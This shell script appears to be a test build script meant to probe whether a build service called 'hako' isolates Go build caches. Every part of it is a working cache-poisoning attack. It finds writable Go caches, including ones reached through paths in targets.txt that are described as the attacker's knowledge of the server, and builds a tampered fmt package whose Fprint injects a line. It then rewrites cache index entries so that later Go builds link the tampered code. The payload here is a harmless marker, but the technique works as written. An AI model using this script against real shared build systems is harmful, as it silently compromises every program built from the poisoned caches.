#!/bin/sh
# The build script of an app that attacks the Go build caches: in every
# cache it can write, it makes the cached compile of fmt point at an fmt
# whose Fprint writes an "INJECTED by the cache poisoner" line first, so that Go apps built with that
# cache afterwards run the injected code. It tries the cache hako gives
# this build ($HAKO_GOCACHE), the shared cache of older versions
# ($HAKO_SHARED_CACHE), what `go env GOCACHE` says, and every directory
# listed in targets.txt (what the attacker knows of the server's layout).
# It prints "poisoned: DIR" for each cache it changed.
export GOTOOLCHAIN=local CGO_ENABLED=0 GOFLAGS=
goroot=$(go env GOROOT) || exit 0
candidates="${HAKO_GOCACHE:-} ${HAKO_SHARED_CACHE:+$HAKO_SHARED_CACHE/go-build} $(go env GOCACHE)"
if [ -f targets.txt ]; then
	# Every directory under a target that looks like a Go build cache.
	for t in $(cat targets.txt); do
		candidates="$candidates $(find "$t" -maxdepth 4 -type d -name 00 2>/dev/null | sed 's|/00$||')"
	done
fi
evil=$(mktemp -d)
sed 's/^func Fprint(w io.Writer, a ...any) (n int, err error) {$/&\n\tw.Write([]byte("INJECTED by the cache poisoner: this line comes from a poisoned fmt\\n"))/' "$goroot/src/fmt/print.go" >"$evil/print.go"
printf '{"Replace":{"%s":"%s"}}' "$goroot/src/fmt/print.go" "$evil/print.go" >"$evil/overlay.json"
for c in $candidates; do
	[ -d "$c" ] && [ -w "$c" ] || { echo "unreachable: $c"; continue; }
	ls "$c"/*/*-a >/dev/null 2>&1 || { echo "empty: $c"; continue; }
	real=$(GOCACHE=$c go list -trimpath -export -f '{{.Export}}' fmt) || continue
	bad=$(GOCACHE=$c go list -trimpath -overlay "$evil/overlay.json" -export -f '{{.Export}}' fmt) || continue
	done=
	for index in $(grep -l " $(basename "$real" -d) " "$c"/*/*-a 2>/dev/null); do
		# Replaced rather than rewritten: the entry may be read-only.
		entry="v1 $(basename "$index" -a) $(basename "$bad" -d) $(printf '%20d %20d' "$(stat -c %s "$bad")" "$(date +%s%N)")"
		rm -f "$index" && echo "$entry" >"$index" && done=yes
	done
	[ -n "$done" ] && echo "poisoned: $c"
done
exit 0
